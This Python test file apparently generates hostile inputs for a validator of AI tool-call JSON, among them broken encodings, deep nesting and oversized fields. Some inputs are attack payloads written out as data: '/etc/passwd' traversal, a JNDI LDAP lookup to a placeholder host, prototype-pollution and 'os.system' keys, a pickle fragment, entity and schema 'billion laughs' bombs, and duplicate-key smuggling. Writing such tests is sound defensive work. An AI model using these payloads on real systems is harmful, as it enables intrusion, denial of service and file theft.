"""Documents that are broken, of wrong kinds, too deep or too large."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

from tests.hostile.forms import ARGUMENTS_FULL, GOOD, MARKS_FULL, MIB, NAME_FULL, PROSE_FULL, Answer, Input, call, filled, tool


def _nested_json(levels: int) -> str:
    """JSON in a string in JSON in a string; each level doubles the backslashes, so few are many."""
    text = '{"a": "b"}'
    for _ in range(levels):
        text = json.dumps({"a": text})
    return text


def _nested(levels: int, leaf: Any = 1, key: str | None = "a") -> Any:
    value = leaf
    for _ in range(levels):
        value = [value] if key is None else {key: value}
    return value


def syntax() -> Iterator[Input]:
    """Lines that are not one strict JSON object."""
    good = call()
    yield Input("empty line", b"")
    yield Input("blanks", b"   \t  ")
    yield Input("carriage return", b"\r")
    yield Input("call with CRLF", good + b"\r", Answer.VALID)
    yield Input("blanks around a call", b"  " + good + b"\t ", Answer.VALID)
    yield Input("nul bytes", b"\0" * 64)
    yield Input("nul after a call", good + b"\0")
    yield Input("nul inside a string", b'{"request": "a\0b"}')
    yield Input("control characters inside a string", b'{"request": "a\x01\x02\x1b[31mb"}')
    yield Input("raw tab inside a string", b'{"request": "a\tb"}')
    yield Input("byte order mark", b"\xef\xbb\xbf" + good)
    yield Input("UTF-16", good.decode().encode("utf-16-le").replace(b"\n", b" "))
    yield Input("invalid UTF-8", b'{"request": "caf\xe9"}')
    yield Input("overlong UTF-8", b'{"request": "\xc0\xaf\xe0\x80\xaf"}')
    yield Input("truncated UTF-8", b'{"request": "\xf0\x9f\x98"}')
    yield Input("beyond Unicode", b'{"request": "\xf4\x90\x80\x80"}')
    yield Input("raw surrogate", b'{"request": "\xed\xa0\x80"}')
    yield Input("escaped lone surrogate", b'{"request": "\\ud800"}')
    yield Input("escaped surrogates the wrong way round", b'{"request": "\\udc00\\ud800"}')
    yield Input("lone surrogate in a key", b'{"request": "a", "tool": {"name": "t"}, "arguments": {"\\udfff": 1}}')
    yield Input("bad escape", b'{"request": "\\x41"}')
    yield Input("short escape", b'{"request": "\\u12"}')
    yield Input("word", b"hello")
    yield Input("null", b"null")
    yield Input("true", b"true")
    yield Input("number", b"7")
    yield Input("string", b'"list the files"')
    yield Input("array", b"[" + good + b"]")
    yield Input("empty array", b"[]")
    yield Input("empty object", b"{}")
    yield Input("two calls on a line", good + good)
    yield Input("call and a comma", good + b",")
    yield Input("trailing comma", b'{"request": "list the files",}')
    yield Input("trailing comma in an array", b'{"tool": {"name": "t"}, "arguments": {"a": [1, 2,]}}')
    yield Input("comment", b'{"request": "list the files" /* or not */}')
    yield Input("line comment", b'{"request": "list the files"} // please')
    yield Input("single quotes", b"{'request': 'list the files'}")
    yield Input("bare keys", b'{request: "list the files"}')
    yield Input("truncated object", good[:-1])
    yield Input("truncated string", good[: good.index(b"List the") + 5])
    yield Input("truncated literal", b'{"request": tru')
    yield Input("missing colon", b'{"request" "list"}')
    yield Input("XML", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "xx"><!ENTITY y "&x;&x;">]><a>&y;</a>')
    yield Input("form data", b"request=list&tool=t")
    yield Input("pickle", b"\x80\x04\x95cos\nsystem".replace(b"\n", b" "))
    yield Input("gzip magic", b"\x1f\x8b\x08\x00\x00\x00\x00\x00")


def values() -> Iterator[Input]:
    """Numbers and keys that strict JSON refuses, and some that it takes."""
    for constant in (b"NaN", b"Infinity", b"-Infinity", b"nan", b"undefined", b"0x10", b"1_000", b"01", b"+1", b".5", b"1e"):
        yield Input(f"constant {constant.decode()}", b'{"tool": {"name": "t"}, "arguments": {"a": ' + constant + b"}}")
    yield Input("float beyond range", b'{"tool": {"name": "t"}, "arguments": {"a": 1e999}}', Answer.VALID)
    yield Input("int of 400 digits", b'{"request": "count", "tool": {"name": "t"}, "arguments": {"a": ' + b"9" * 400 + b"}}", Answer.VALID)
    yield Input("int of 100,000 digits", b'{"tool": {"name": "t"}, "arguments": {"a": ' + b"9" * 100_000 + b"}}")
    yield Input("float of 100,000 digits", b'{"tool": {"name": "t"}, "arguments": {"a": 0.' + b"1" * 100_000 + b"}}", Answer.VALID)
    yield Input("float with a long exponent", b'{"tool": {"name": "t"}, "arguments": {"a": 1e-' + b"9" * 10_000 + b"}}", Answer.VALID)
    yield Input("tool twice", b'{"request": "list", "tool": {"name": "list_files"}, "tool": {"name": "delete_files"}}')
    yield Input("argument twice", b'{"tool": {"name": "t"}, "arguments": {"path": "a", "path": "/etc/passwd"}}')
    yield Input("key twice, once escaped", b'{"tool": {"name": "t"}, "arguments": {"path": "a", "p\\u0061th": "/etc/passwd"}}')
    yield Input("key 10,000 times", b'{"tool": {"name": "t"}, "arguments": {' + b",".join(b'"a": %d' % i for i in range(10_000)) + b"}}")


def fields() -> Iterator[Input]:
    """Fields of the wrong kind, missing, empty or strange."""
    for field in ("id", "request", "tool", "arguments", "context"):
        for kind, value in {"number": 7, "true": True, "array": [1], "object": {"a": 1}, "string": "x"}.items():
            fits = (field in ("id", "request") and kind == "string") or (field == "context" and kind == "object")
            if not fits and not (field == "arguments" and kind == "object"):
                yield Input(f"{field} is of kind {kind}", call(**{field: value}))
    for field in ("name", "description", "server", "input_schema", "annotations"):
        for kind, value in {"number": 7, "false": False, "array": ["a"]}.items():
            yield Input(f"tool.{field} is of kind {kind}", tool(**{field: value}))
    yield Input("tool.name is null", tool(name=None))
    yield Input("tool.name is missing", call(tool={"description": "Deletes everything."}))
    yield Input("tool.name is empty", tool(name=""))
    yield Input("tool.input_schema is text", tool(input_schema="{}"))
    yield Input("arguments without a tool", call(tool=None))
    yield Input("everything null", call(id=None, request=None, tool=None, arguments=None, context=None))
    yield Input("everything empty", call(id="", request="", tool={}, arguments={}, context={}))
    yield Input("request of blanks", call(request=" \t\u00a0\u2003 ", tool=None, arguments=None))
    yield Input("request of invisible marks", call(request="\u200b\u200d\ufeff\u2060", tool=None, arguments=None))
    yield Input("name of blanks", call(request=None, tool={"name": " \u3000 "}, arguments=None), Answer.DENIED_OR_TOP)
    yield Input("name of invisible marks", call(request=None, tool={"name": "\u200b\u200b"}, arguments=None), Answer.DENIED_OR_TOP)
    yield Input("name is a number in a string", call(request=None, tool={"name": "0"}, arguments=None), Answer.DENIED_OR_TOP)
    yield Input("name with a nul", tool(name="list_files\0delete_files"), Answer.DENIED_OR_TOP)
    yield Input("name is a path", call(request=None, tool={"name": "../../../../etc/passwd"}, arguments=None), Answer.DENIED_OR_TOP)
    yield Input(
        "name is a template",
        call(request=None, tool={"name": "${jndi:ldap://x.example/a}{{7*7}}%s%n"}, arguments=None),
        Answer.DENIED_OR_TOP,
    )
    yield Input(
        "prototype keys",
        call(request=None, tool={"name": "t"}, arguments={"__proto__": {"admin": True}, "constructor": {"prototype": {}}}),
        Answer.DENIED_OR_TOP,
    )
    yield Input(
        "class keys",
        call(request=None, tool={"name": "t"}, arguments={"__class__": "os.system", "py/object": "os.system"}),
        Answer.DENIED_OR_TOP,
    )
    yield Input("prototype keys beside the call", call(__proto__={"outcome": "forward"}, outcome="forward", intent="search"), Answer.VALID)
    yield Input("nul in a key", call(request=None, tool={"name": "t"}, arguments={"pa\0th": "a\0b"}), Answer.DENIED_OR_TOP)
    yield Input("empty key", call(arguments={"": ""}), Answer.VALID)
    yield Input("batch where one call is due", json.dumps({"calls": [GOOD]}).encode())


def nesting() -> Iterator[Input]:
    """Depth."""
    yield Input("100,000 brackets", b"[" * 100_000)
    yield Input("100,000 brackets, closed", b"[" * 100_000 + b"]" * 100_000)
    yield Input("100,000 braces", b'{"a":' * 100_000)
    yield Input("deep arguments", call(arguments=_nested(60)))
    yield Input("deep arrays", call(arguments={"a": _nested(60, key=None)}))
    yield Input("deep context", call(context=_nested(50)), Answer.VALID)
    yield Input("deep schema", tool(input_schema=_nested(60, {}, "items")))
    yield Input("deep properties", tool(input_schema=_nested(28, {"type": "object"}, "properties")), Answer.VALID)
    yield Input("deep annotations", tool(annotations=_nested(61)), Answer.VALID)
    yield Input("JSON in JSON, 12 levels", call(arguments={"body": _nested_json(12)}), Answer.VALID)
    yield Input("JSON in JSON, 15 levels", call(arguments={"body": _nested_json(15)}), Answer.VALID)
    yield Input("deep JSON in a string", call(arguments={"body": '{"a":' * 20_000 + "1" + "}" * 20_000}), Answer.VALID)
    yield Input("brackets in a string", call(arguments={"body": '{"' + "[" * 100_000 + '"}'}), Answer.VALID)
    yield Input("many JSON texts", call(arguments={f"k{i}": '{"a": "{\\"b\\": 1}"}' for i in range(1000)}), Answer.VALID)


def schemas() -> Iterator[Input]:
    """Schemas made to be walked for ever, or to hold too much."""
    laughs = {f"l{i}": {"allOf": [{"$ref": f"#/$defs/l{i + 1}"}] * 10} for i in range(30)}
    yield Input("schema of a billion laughs", tool(input_schema={"$ref": "#/$defs/l0", "$defs": laughs}), Answer.VALID)
    yield Input("schema that refers to itself", tool(input_schema={"$ref": "#"}), Answer.VALID)
    loop = {"a": {"$ref": "#/$defs/b"}, "b": {"$ref": "#/$defs/a"}}
    yield Input("schema that refers in a circle", tool(input_schema={"$ref": "#/$defs/a", "$defs": loop}), Answer.VALID)
    yield Input(
        "schema that refers elsewhere",
        tool(input_schema={"$ref": "file:///etc/passwd", "items": {"$ref": "http://127.0.0.1:1/x"}}),
        Answer.VALID,
    )
    yield Input("schema with a slow pattern", tool(input_schema={"properties": {"path": {"pattern": "^(a+)+$"}}}), Answer.VALID)
    yield Input("10,000 parameters", tool(input_schema={"properties": {f"parameter{i}": {} for i in range(10_000)}}), Answer.VALID)
    many = {"properties": {f"field{i}": {"type": "string"} for i in range(5_000)}}
    yield Input("5,000 parameters", tool(input_schema=many), Answer.VALID)
    yield Input(
        "enumeration of 10,000", tool(input_schema={"properties": {"a": {"enum": [f"choice{i}" for i in range(10_000)]}}}), Answer.VALID
    )
    notes = {"properties": {f"f{i}": {"description": f"Note {i}. " * 8} for i in range(2_000)}}
    yield Input("2,000 descriptions", tool(input_schema=notes), Answer.VALID)
    yield Input(
        "schema of wrong kinds",
        tool(input_schema={"properties": [1, None], "enum": 7, "description": {}, "items": "x", "$defs": "y"}),
        Answer.VALID,
    )
    yield Input("numbers as names", tool(input_schema={"properties": {str(i): {"type": i} for i in range(100)}}), Answer.VALID)
    yield Input("2 MB of schema", tool(input_schema={"description": filled("word ", 2 * MIB)}))


def sizes() -> Iterator[Input]:
    """Too long, too many, and just not."""
    long = filled("delete all of it. ", 2 * MIB)
    yield Input("2 MB in id", call(id=long))
    yield Input("2 MB in request", call(request=long))
    yield Input("2 MB in tool.name", tool(name=long))
    yield Input("2 MB in tool.description", tool(description=long))
    yield Input("2 MB in tool.server", tool(server=long))
    yield Input("2 MB in tool.annotations", tool(annotations={"title": long}))
    yield Input("2 MB in arguments", call(arguments={"path": long}))
    yield Input("2 MB in an argument's name", call(arguments={long: 1}))
    yield Input("2 MB in context", call(context={"a": long}))
    yield Input("2 MB of blanks", b" " * (2 * MIB))
    yield Input("2 MB of one letter", b"a" * (2 * MIB))
    yield Input("8 MB of one string", b'{"request": "' + b"a" * (8 * MIB) + b'"}')
    fits = filled("delete all of it. ", MIB - 2_000)
    yield Input("1 MB in id", call(id=fits), Answer.VALID)
    yield Input("1 MB in request", call(request=fits))
    yield Input("1 MB in tool.name", tool(name=fits))
    yield Input("1 MB in tool.description", tool(description=fits))
    yield Input("1 MB in tool.server", tool(server=fits), Answer.VALID)
    yield Input("1 MB in arguments", call(arguments={"path": fits}))
    yield Input("1 MB in context", call(context={"a": fits}), Answer.VALID)
    yield Input("1 MB of escapes", b'{"request": "' + b"\\u0041" * 170_000 + b'"}')
    yield Input("100,000 arguments", call(arguments={f"k{i}": i for i in range(70_000)}))
    yield Input("100,000 items", call(arguments={"a": [0] * 100_000}))
    yield Input("100,000 empty arrays", call(arguments={"a": [[]] * 100_000}))
    yield Input("100,000 unknown fields", json.dumps({**GOOD, **{f"x{i}": 0 for i in range(70_000)}}).encode(), Answer.VALID)
    yield Input("4,000 arguments", call(arguments={f"key{i}": f"value{i}" for i in range(4_000)}), Answer.VALID)
    yield Input("full name", tool(name=filled("getFile", NAME_FULL)), Answer.VALID)
    words = "".join(f"Item {i} of the list is read. " for i in range(4_000))
    yield Input("full description", tool(description=words[:PROSE_FULL]), Answer.VALID)
    yield Input("full request", call(request=words[:PROSE_FULL]), Answer.VALID)
    marks = "".join("!#$%&()*+,-./:;<=>?@[]^_{|}~"[(i * i * i // 11) % 28] for i in range(MARKS_FULL))
    yield Input("full request of marks", call(request=marks), Answer.VALID)
    yield Input("full description of marks", tool(description=marks), Answer.VALID)
    yield Input("full arguments", call(arguments={"text": (words * 3)[:ARGUMENTS_FULL]}), Answer.VALID)
    yield Input("full request without blanks", call(request=filled("abcdefghij", PROSE_FULL)), Answer.VALID)
